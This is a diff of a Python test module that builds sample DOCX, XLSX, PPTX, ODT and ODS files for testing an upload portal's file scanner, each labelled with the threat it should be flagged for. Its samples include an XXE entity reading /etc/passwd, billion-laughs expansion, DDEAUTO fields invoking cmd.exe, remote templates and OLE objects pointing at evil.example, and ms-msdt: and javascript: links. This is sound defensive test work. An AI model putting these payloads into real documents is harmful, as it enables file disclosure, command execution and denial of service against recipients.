@@ -1,0 +1,284 @@
+from __future__ import annotations
+
+import io
+import zipfile
+from collections.abc import Iterator, Mapping
+
+import openpyxl
+
+from portal.base.tests.file_corpus.sample import Sample
+
+_MAIN = {
+    "docx": ("word/document.xml", "wordprocessingml.document"),
+    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
+    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
+}
+_OFFICE = "application/vnd.openxmlformats-officedocument"
+_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_LAUGHS = (
+    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
+    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
+)
+_FILE_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
+EICAR_LIKE = "HARMLESS-TEST-SIGNATURE-OF-THE-PORTAL"
+"""What the simulated scanner finds. No real signature, so that no real scanner removes the tests."""
+
+
+def packed(parts: Mapping[str, str | bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", kind) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return output.getvalue()
+
+
+def office(
+    extension: str, more: Mapping[str, str | bytes] | None = None, types: str = "", text: str = "Xin chào"
+) -> bytes:
+    part, kind = _MAIN[extension]
+    content_types = (
+        f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        f'<Override PartName="/{part}" ContentType="{_OFFICE}.{kind}.main+xml"/>{types}</Types>'
+    )
+    body = f'<w:document xmlns:w="w"><w:p><w:t>{text}</w:t></w:p></w:document>'
+    parts = {
+        "[Content_Types].xml": content_types,
+        "_rels/.rels": relations(("officeDocument", part)),
+        part: body,
+    }
+    return packed({**parts, **(more or {})})
+
+
+def relations(*rows: tuple[str, str], mode: str = "") -> str:
+    made = "".join(
+        f'<Relationship Id="r" Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/>' for kind, target in rows
+    )
+    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{made}</Relationships>'
+
+
+def _outside(kind: str, target: str) -> dict[str, str]:
+    return {"word/_rels/document.xml.rels": relations((kind, target), mode=' TargetMode="External"')}
+
+
+def real_sheet() -> bytes:
+    book, output = openpyxl.Workbook(), io.BytesIO()
+    book.active.append(["Mã", "Tên"])
+    book.save(output)
+    return output.getvalue()
+
+
+def _field(*runs: str) -> dict[str, str]:
+    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    return {"word/document.xml": f'<w:document xmlns:w="w"><w:p>{cut}</w:p></w:document>'}
+
+
+def document(
+    more: Mapping[str, str | bytes] | None = None, content: str = "", manifest: str = "", kind: str = "text"
+) -> bytes:
+    names = 'xmlns:draw="d" xmlns:xlink="x" xmlns:text="t" xmlns:script="s" xmlns:office="o"'
+    parts = {
+        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
+        "content.xml": f"<office:document-content {names}>{content}</office:document-content>",
+        "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="m">{manifest}</manifest:manifest>',
+    }
+    return packed({**parts, **(more or {})})
+
+
+def encrypted_zip(content: bytes) -> bytes:
+    """Set the flag of encryption of each entry: enough for every reader to ask for a password."""
+    made = bytearray(content)
+    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = made.find(signature)
+        while start >= 0:
+            made[start + place] |= 1
+            start = made.find(signature, start + 4)
+    return bytes(made)
+
+
+def samples() -> Iterator[Sample]:
+    for extension in _MAIN:
+        macro = '<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/>'
+        wrong = "xlsx" if extension == "docx" else "docx"
+        yield Sample(f"{extension}: good", f"a.{extension}", lambda e=extension: office(e))
+        yield Sample(
+            f"{extension}: with macros",
+            f"a.{extension}",
+            lambda e=extension: office(e, {f"{_MAIN[e][0][:2]}/vbaProject.bin": b"x"}),
+            "macros",
+        )
+        yield Sample(
+            f"{extension}: declares macros",
+            f"a.{extension}",
+            lambda e=extension, m=macro: office(e, types=m),
+            "macros",
+        )
+        yield Sample(f"{extension}: is a {wrong}", f"a.{extension}", lambda w=wrong: office(w), "content")
+        yield Sample(
+            f"{extension}: password",
+            f"a.{extension}",
+            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
+            "encrypted_office",
+        )
+        yield Sample(
+            f"{extension}: encrypted parts",
+            f"a.{extension}",
+            lambda e=extension: encrypted_zip(office(e)),
+            "encrypted",
+        )
+        yield Sample(
+            f"{extension}: object of another program",
+            f"a.{extension}",
+            lambda e=extension: office(e, {"x/embeddings/oleObject1.bin": b"x"}),
+            "objects",
+        )
+        yield Sample(
+            f"{extension}: ActiveX",
+            f"a.{extension}",
+            lambda e=extension: office(e, {"x/activeX/activeX1.xml": "<a/>"}),
+            "objects",
+        )
+        yield Sample(
+            f"{extension}: entity of a file",
+            f"a.{extension}",
+            lambda e=extension: office(e, {"docProps/app.xml": _FILE_ENTITY}),
+            "external",
+        )
+        yield Sample(
+            f"{extension}: laughs",
+            f"a.{extension}",
+            lambda e=extension: office(e, {"docProps/core.xml": _LAUGHS}),
+            "external",
+        )
+        yield Sample(
+            f"{extension}: truncated", f"a.{extension}", lambda e=extension: office(e)[:-60], "damaged"
+        )
+        yield Sample(f"{extension}: an empty archive", f"a.{extension}", lambda: packed({}), "empty")
+        yield Sample(f"{extension}: any archive", f"a.{extension}", lambda: packed({"a.txt": "a"}), "content")
+    yield Sample(
+        "docx: with a chart's table",
+        "a.docx",
+        lambda: office("docx", {"word/embeddings/table.xlsx": office("xlsx")}),
+    )
+    yield Sample(
+        "docx: with a link",
+        "a.docx",
+        lambda: office("docx", _outside("hyperlink", "https://quangngai.gov.vn/")),
+    )
+    yield Sample("docx: with a page number", "a.docx", lambda: office("docx", _field(" PAGE ")))
+    yield Sample("docx: with a picture", "a.docx", lambda: office("docx", {"word/media/a.png": b"\x89PNG"}))
+    yield Sample("xlsx: of a program", "a.xlsx", real_sheet)
+    yield Sample(
+        "docx: macros in a chart's table",
+        "a.docx",
+        lambda: office("docx", {"word/embeddings/t.xlsx": office("xlsx", {"xl/vbaProject.bin": b""})}),
+        "macros",
+    )
+    yield Sample(
+        "docx: file of another program inside",
+        "a.docx",
+        lambda: office("docx", {"word/embeddings/a.exe": b"MZ"}),
+        "objects",
+    )
+    yield Sample(
+        "docx: template from elsewhere",
+        "a.docx",
+        lambda: office("docx", _outside("attachedTemplate", "https://evil.example/a.dotm")),
+        "external",
+    )
+    yield Sample(
+        "docx: picture from elsewhere",
+        "a.docx",
+        lambda: office("docx", _outside("image", "https://evil.example/a.png")),
+        "external",
+    )
+    yield Sample(
+        "docx: frame from elsewhere",
+        "a.docx",
+        lambda: office("docx", _outside("frame", "file://server/a")),
+        "external",
+    )
+    yield Sample(
+        "docx: link to a script",
+        "a.docx",
+        lambda: office("docx", _outside("hyperlink", "javascript:alert(1)")),
+        "external",
+    )
+    yield Sample(
+        "docx: link to a protocol",
+        "a.docx",
+        lambda: office("docx", _outside("hyperlink", "ms-msdt:/id")),
+        "external",
+    )
+    yield Sample(
+        "docx: object from elsewhere",
+        "a.docx",
+        lambda: office("docx", _outside("oleObject", "https://evil.example/a")),
+        "objects",
+    )
+    yield Sample(
+        "docx: a web page inside",
+        "a.docx",
+        lambda: office("docx", {"word/_rels/document.xml.rels": relations(("aFChunk", "a.mht"))}),
+        "objects",
+    )
+    yield Sample("docx: DDE", "a.docx", lambda: office("docx", _field(" DDEAUTO c:\\\\cmd.exe ")), "external")
+    yield Sample(
+        "docx: DDE cut into runs",
+        "a.docx",
+        lambda: office("docx", _field(" DD", "EAU", "TO cmd ")),
+        "external",
+    )
+    yield Sample(
+        "docx: broken XML", "a.docx", lambda: office("docx", {"word/document.xml": "<a><b></a>"}), "damaged"
+    )
+    yield Sample(
+        "docx: UTF-16 entity",
+        "a.docx",
+        lambda: office(
+            "docx",
+            {"word/styles.xml": ('<?xml version="1.0" encoding="utf-16"?>' + _FILE_ENTITY).encode("utf-16")},
+        ),
+        "external",
+    )
+    yield Sample(
+        "xlsx: other workbook",
+        "a.xlsx",
+        lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": "<a/>"}),
+        "external",
+    )
+    yield Sample(
+        "xlsx: query of a web page",
+        "a.xlsx",
+        lambda: office("xlsx", {"xl/connections.xml": "<a/>"}),
+        "external",
+    )
+    yield Sample(
+        "xlsx: old macros", "a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"
+    )
+    yield Sample(
+        "xlsx: media bomb", "a.xlsx", lambda: office("xlsx", {"xl/media/a.bmp": bytes(120_000_000)}), "bomb"
+    )
+    yield Sample("odt: good", "a.odt", document)
+    yield Sample("ods: good", "a.ods", lambda: document(kind="spreadsheet"))
+    yield Sample(
+        "odt: with a link", "a.odt", lambda: document(content='<text:a xlink:href="https://x.vn">x</text:a>')
+    )
+    yield Sample("odt: is an ods", "a.odt", lambda: document(kind="spreadsheet"), "content")
+    yield Sample("odt: macros", "a.odt", lambda: document({"Basic/Standard/Module1.xml": "<a/>"}), "macros")
+    yield Sample(
+        "odt: event",
+        "a.odt",
+        lambda: document(content='<script:event-listener script:event-name="on"/>'),
+        "macros",
+    )
+    yield Sample(
+        "odt: picture from elsewhere",
+        "a.odt",
+        lambda: document(content='<draw:image xlink:href="https://x.vn/a.png"/>'),
+        "external",
+    )
+    yield Sample("odt: object", "a.odt", lambda: document(content="<draw:object-ole/>"), "objects")
+    yield Sample(
+        "odt: password", "a.odt", lambda: document(manifest="<manifest:encryption-data/>"), "encrypted"
+    )
+    yield Sample("odt: laughs", "a.odt", lambda: document({"content.xml": _LAUGHS}), "external")
